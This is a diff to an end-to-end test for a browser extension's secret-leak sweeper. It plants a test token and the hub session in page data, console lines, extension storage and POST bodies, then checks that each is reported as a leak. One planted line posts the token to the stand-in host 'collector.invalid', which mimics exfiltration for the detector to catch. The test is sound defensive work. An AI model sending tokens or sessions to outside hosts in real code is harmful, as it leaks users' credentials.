@@ -80,10 +80,36 @@ export function sweepJourneys(world: () => JourneyWorld): void {
         }),
       [oktaTab, TOKEN] as const,
     );
+    // Over https, in a request body: Firefox's recorder terminates TLS to read it.
+    await hubTab.evaluate(
+      (token) => fetch('https://collector.invalid/', { method: 'POST', body: token }).catch(() => null),
+      TOKEN,
+    );
+    // In the body of a request to Okta, which the Okta sandbox records with its body.
+    await okta.evaluate(
+      (token) => fetch('/api/v1/sessions/me', { method: 'POST', body: token }).then((r) => r.status),
+      TOKEN,
+    );
+    await w.driver.inExtension((token) => chrome.storage.sync.set({ kept: token }), TOKEN);
+    await w.driver.logInBackground(`background ${TOKEN}`);
+
+    // The hub session, where it must not be either: an Okta page, its console, a request to Okta, storage.sync.
+    const session = [...w.hub.sessions][0] ?? '';
+    expect(session.length).toBeGreaterThan(0);
+    await okta.evaluate((value) => {
+      document.body.dataset.hubSession = value;
+      console.info(`hub session ${value}`);
+      return fetch('/api/v1/users/me', { method: 'POST', body: value }).then((r) => r.status);
+    }, session);
+    await w.driver.inExtension((value) => chrome.storage.sync.set({ keptSession: value }), session);
+
     const leaks = await pollUntil(
       async () => (await w.secrets.findLeaks()).join('\n'),
-      (found) => found.includes('isolated 00Sweep'),
-      { what: "the isolated world's console line to reach the sweep" },
+      (found) =>
+        found.includes('isolated 00Sweep') &&
+        found.includes('background 00Sweep') &&
+        /^console: .*hub session .* holds the hub session/m.test(found),
+      { what: 'the console lines of the isolated world, the background and the page to reach the sweep' },
     );
     expect(leaks).toMatch(/^hub page .* holds 00Sw…vwxy/m);
     expect(leaks).toMatch(/^console: .*token 00Sweep/m);
@@ -96,11 +122,23 @@ export function sweepJourneys(world: () => JourneyWorld): void {
       new RegExp(`^extension page ${escapeRegExp(w.driver.extensionOrigin)}/popup\\.html`, 'm'),
     );
     expect(leaks).toMatch(/^storage\.local holds/m);
+    expect(leaks).toMatch(/^storage\.sync holds 00Sw/m);
+    expect(leaks).toMatch(/^console: .*background 00Sweep/m);
+    expect(leaks).toMatch(/^browser request POST https:\/\/collector\.invalid\/ holds 00Sw/m);
+    expect(leaks).toMatch(/^Okta request POST .*acme-admin\.okta\.com\/api\/v1\/sessions\/me holds 00Sw/m);
+    // The hub session, in each place it was planted.
+    expect(leaks).toMatch(/^page http:\/\/acme-admin\.okta\.com.* holds the hub session/m);
+    expect(leaks).toMatch(/^console: .*hub session .* holds the hub session/m);
+    expect(leaks).toMatch(/^Okta request POST .*\/api\/v1\/users\/me holds the hub session/m);
+    expect(leaks).toMatch(/^storage\.sync holds the hub session/m);
     // The link request itself carries it, in its credentials: that is where it belongs.
     expect(leaks).not.toMatch(/POST \/hub\/accounts|POST http:\/\/127\.0\.0\.1:\d+\/hub\/accounts/);
 
     // The world's own sweep after this journey must pass: take the plants away again.
-    await w.driver.inExtension(() => chrome.storage.local.remove('kept'));
+    await w.driver.inExtension(async () => {
+      await chrome.storage.local.remove('kept');
+      await chrome.storage.sync.remove(['kept', 'keptSession']);
+    });
     await w.driver.reset();
     w.okta.reset();
     w.hub.reset();
